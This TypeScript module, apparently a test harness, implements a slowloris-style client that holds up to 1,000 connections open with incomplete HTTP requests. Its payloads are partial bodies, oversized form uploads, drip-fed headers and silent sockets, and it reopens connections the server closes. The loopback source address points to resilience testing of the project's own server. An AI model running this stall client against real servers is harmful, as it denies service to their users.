import { connect, type Socket } from 'node:net';

/** What each attacking connection sends before it stalls. */
export const attackKinds = {
  body: 'POST /composition/health HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 4000\r\n\r\n',
  form: 'POST /api/v1/users/profile/photo/ HTTP/1.1\r\nHost: x\r\nContent-Type: multipart/form-data; boundary=b\r\nContent-Length: 9000000\r\n\r\n',
  page: 'GET /no-such-page HTTP/1.1\r\nHost: x\r\nContent-Length: 4000\r\n\r\n',
  headers: 'GET / HTTP/1.1\r\nHost: x\r\nX-Slow: ',
  silent: '',
  idle: 'GET /favicon.svg HTTP/1.1\r\nHost: x\r\n\r\n',
} as const;

export type AttackKind = keyof typeof attackKinds;

type StalledClient = {
  /** Open connections. */
  open: () => number;
  /** Connections closed by the server. */
  closed: () => number;
  stop: () => void;
};

type Attack = {
  host: string;
  port: number;
  /** The loopback address of the connections. */
  from: string;
  connections: number;
  kind: AttackKind;
  /** Interval of single bytes on each connection; none when absent. */
  dripMs?: number;
  /** Delay before a closed connection is opened again; never when absent. */
  reopenMs?: number;
};

/** Opens connections that never finish a request, at most 1,000 at a time. */
export function stall({ host, port, from, connections, kind, dripMs, reopenMs }: Attack): StalledClient {
  const sockets = new Set<Socket>();
  let closed = 0;
  let isStopped = false;
  let pending = 0;
  let remaining = connections;
  const open = () => {
    while (!isStopped && remaining > 0 && pending < 1_000) {
      remaining -= 1;
      pending += 1;
      const socket = connect({ host, port, localAddress: from });
      let isPending = true;
      const settle = () => {
        if (!isPending) return;
        isPending = false;
        pending -= 1;
        setImmediate(open);
      };
      socket.once('connect', () => {
        sockets.add(socket);
        socket.write(attackKinds[kind]);
        settle();
      });
      socket.on('error', () => {});
      socket.resume();
      socket.once('close', () => {
        if (sockets.delete(socket)) closed += 1;
        settle();
        if (reopenMs === undefined || isStopped) return;
        setTimeout(() => {
          remaining += 1;
          open();
        }, reopenMs);
      });
    }
  };
  open();
  const dripTimer = dripMs && setInterval(() => sockets.forEach((socket) => void socket.write('x')), dripMs);
  return {
    open: () => sockets.size,
    closed: () => closed,
    stop: () => {
      isStopped = true;
      if (dripTimer) clearInterval(dripTimer);
      for (const socket of sockets) socket.destroy();
    },
  };
}
